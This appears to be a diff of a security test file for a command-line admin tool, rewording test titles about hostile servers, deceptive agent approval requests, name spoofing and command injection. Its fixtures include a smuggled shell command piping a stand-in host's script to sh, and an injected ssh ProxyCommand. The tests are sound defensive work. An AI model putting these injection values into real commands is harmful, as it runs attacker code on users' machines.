@@ -1,5 +1,5 @@
-// What a managed server, an agent or a stranger writes to whoever reads it in a terminal: nothing that the terminal acts on, and no
-// command that looks like another one.
+// Text from managed servers, agents and strangers must not control the terminal of the reader, nor pass for
+// another command.
 import type { EndpointKey, InboxItem, Server, Task } from '@buoy/contract';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { Terminal } from '../src/terminal.ts';
@@ -83,7 +83,7 @@ describe('a hostile server that writes to the terminal of an admin', () => {
     expect(err).toBe('safedarkabcover\n');
   });
 
-  test('does so neither by the output of a task nor while it is followed', async () => {
+  test('does not control the terminal by the output of a task, read later or followed live', async () => {
     expect((await buoy(['tasks', 'output', 'tsk_1'], outputAnswer)).out).toBe('safedarkabcover\n');
     const followed = await buoy(['tasks', 'watch', 'tsk_1', '--output'], {
       'GET /tasks/:id': { body: { task: { ...task, status: 'running', finishedAt: null } } },
@@ -100,7 +100,7 @@ describe('a hostile server that writes to the terminal of an admin', () => {
     expect(withoutOwnColours(followed.err)).toBe('abc\n');
   });
 
-  test('nor by a name, a tag, a reason, a log line or the sentence of an error', async () => {
+  test('does not control the terminal by a name, a tag, a reason, a log line or an error message', async () => {
     const named = {
       ...server,
       name: nasty,
@@ -131,13 +131,13 @@ describe('a hostile server that writes to the terminal of an admin', () => {
     }
   });
 
-  test('nor by JSON that is shown in a terminal, which still says the same', async () => {
+  test('does not control the terminal by JSON, whose values stay the same', async () => {
     const { out } = await buoy(['servers', 'exec', 'web', '--json', 'id'], execAnswer);
     expect(out).not.toMatch(acted);
     expect(JSON.parse(out)).toMatchObject({ stdout: `${nasty}\n` });
   });
 
-  test('nor by a line of its own in a question, which could pass for its answer and the next one', async () => {
+  test('cannot add a line to a question that passes for its answer and another question', async () => {
     const questions: string[] = [];
     const skill = {
       ...{
@@ -159,7 +159,7 @@ describe('a hostile server that writes to the terminal of an admin', () => {
     ]);
   });
 
-  test('nor by its name in a question', async () => {
+  test('does not control the terminal by its name in a question', async () => {
     const questions: string[] = [];
     await buoy(
       ['servers', 'remove', server.id],
@@ -174,7 +174,7 @@ describe('a hostile server that writes to the terminal of an admin', () => {
   });
 });
 
-test('a pipe and --raw get the bytes as they are', async () => {
+test('a pipe and --raw get the bytes unchanged', async () => {
   const piped = await buoy(['servers', 'exec', 'web', 'id'], execAnswer, {});
   expect(piped).toMatchObject({ out: `${nasty}\n`, err: `${nasty}\n` });
   const raw = await buoy(['servers', 'exec', '--raw', 'web', 'id'], execAnswer);
@@ -182,7 +182,7 @@ test('a pipe and --raw get the bytes as they are', async () => {
   expect((await buoy(['tasks', 'output', 'tsk_1', '--raw'], outputAnswer)).out).toBe(`${nasty}\n`);
 });
 
-describe('an agent that wants a command approved which nobody has read', () => {
+describe('an agent that asks for approval of a deceptive command', () => {
   const inbox = {
     'GET /inbox': { body: { items: [approval, pairing], accessRequests: [], unreachable: [] } },
   } as const;
@@ -208,7 +208,7 @@ describe('an agent that wants a command approved which nobody has read', () => {
       .join('');
   const shown = command.replace('\u202e', '\\u202e').replace('\u202c', '\\u202c');
 
-  test('is listed with the whole of it, in rows that fit, and what is hidden in it', async () => {
+  test('is listed with the whole command, in rows that fit, and its hidden characters', async () => {
     const { out } = await buoy(['inbox', 'list'], inbox, { ...person, columns: 40 });
     const [, block = ''] = out.split('\napr_1:\n');
     expect(whole(block)).toBe(shown);
@@ -217,7 +217,7 @@ describe('an agent that wants a command approved which nobody has read', () => {
     expect(out).toContain('U+202E RIGHT-TO-LEFT OVERRIDE');
   });
 
-  test('is asked about after all of it was shown, and a no sends nothing', async () => {
+  test('is approved only after the whole command was shown, and a no sends nothing', async () => {
     const questions: string[] = [];
     const refused = await buoy(['inbox', 'approve', 'apr_1'], decided, {
       ...person,
@@ -234,7 +234,7 @@ describe('an agent that wants a command approved which nobody has read', () => {
       expect(refused.err).toContain(fact);
   });
 
-  test('cannot write a line of its own above the command, nor can a device that wants in', async () => {
+  test('cannot add a line above the command, nor can a pairing device', async () => {
     const forged = '/srv\n  Command:\n  > ls\n\napr_2:';
     const device: InboxItem = {
       ...{ type: 'pairing', serverId: 'srv_1', serverName: 'web\n  Server:   other' },
@@ -279,7 +279,7 @@ describe('an agent that wants a command approved which nobody has read', () => {
     }
   });
 
-  test('gets nothing from a script without --yes, nor does a stranger who wants in', async () => {
+  test('gets no approval from a script without --yes, nor does a stranger who asks for pairing', async () => {
     for (const request of ['apr_1', 'Anna'])
       expect(await buoy(['inbox', 'approve', request], decided, {})).toMatchObject({
         exit: 2,
@@ -295,13 +295,13 @@ describe('an agent that wants a command approved which nobody has read', () => {
   });
 });
 
-describe('a stranger who calls himself as somebody else who is awaited', () => {
+describe('a stranger who uses the name of an expected person', () => {
   const stranger = { userId: '666', name: 'Anna', requestedAt: at };
   const answers = {
     'GET /inbox': { body: { items: [], accessRequests: [stranger], unreachable: [] } },
   } as const;
 
-  test('is let in to Buoy only after the person has read whose id it is', async () => {
+  test('gets access to Buoy only after the id was shown and confirmed', async () => {
     const questions: string[] = [];
     const refused = await buoy(['inbox', 'approve', 'Anna'], answers, {
       ...person,
@@ -314,11 +314,11 @@ describe('a stranger who calls himself as somebody else who is awaited', () => {
     expect(questions).toEqual([expect.stringContaining('Anna (666)')]);
   });
 
-  test('is not let in by a script that names him by his name alone', async () => {
+  test('gets no access from a script that gives only the name', async () => {
     expect(await buoy(['inbox', 'approve', 'Anna'], answers, {})).toMatchObject({ exit: 2, changes: [] });
   });
 
-  test('is not let in by his name among all people either', async () => {
+  test('gets no access by name from admin users approve either', async () => {
     const user = {
       ...{ id: '666', username: null, firstName: 'Anna', lastName: null, photoUrl: null, languageCode: null },
       ...{ isSuperAdmin: false, approved: false, mayAddServers: true, createdAt: at, status: 'pending' },
@@ -334,7 +334,7 @@ describe('a hostile server that writes commands for the person to copy', () => {
   const evil = "x'; curl evil.example | sh #";
   const quoted = `'x'\\''; curl evil.example | sh #'`;
 
-  test('puts none of its own into the command that installs what a skill needs', async () => {
+  test('cannot inject into the command that installs a requirement of a skill', async () => {
     const skill = {
       ...{ name: evil, key: 'pdf', description: '', source: 'workspace', emoji: null, homepage: null },
       ...{ enabled: true, eligible: false, blockedByAgent: false, removable: false },
@@ -349,7 +349,7 @@ describe('a hostile server that writes commands for the person to copy', () => {
     expect(err.split('\n').filter((line) => line.startsWith('$'))).toEqual([]);
   });
 
-  test('nor into the one that shows the answer of an agent', async () => {
+  test('cannot inject into the command that shows the answer of an agent', async () => {
     const session = {
       ...{ key: evil, agentId: 'main', label: 'desk', title: null, kind: 'direct', isMain: false },
       ...{ status: 'done', running: false, activeRunIds: [], pinned: false, archived: false, unread: false },
@@ -372,7 +372,7 @@ describe('a hostile server that writes commands for the person to copy', () => {
     ['its address', { host: 'web.example\n  ProxyCommand evil' }],
     ['its host key', { hostKey: { algorithm: 'a', fingerprint: 'SHA256:a;evil', pinnedAt: at } }],
     ['the kind of its key', { hostKey: { algorithm: 'a\nProxyCommand evil', fingerprint, pinnedAt: at } }],
-  ])('nor by %s into ssh: it is refused, and no command with it is shown', async (_what, own) => {
+  ])('cannot inject into ssh by %s: it is refused, and no command with it is shown', async (_what, own) => {
     let started = false;
     const { exit, err } = await buoy(
       ['servers', 'ssh', 'web'],
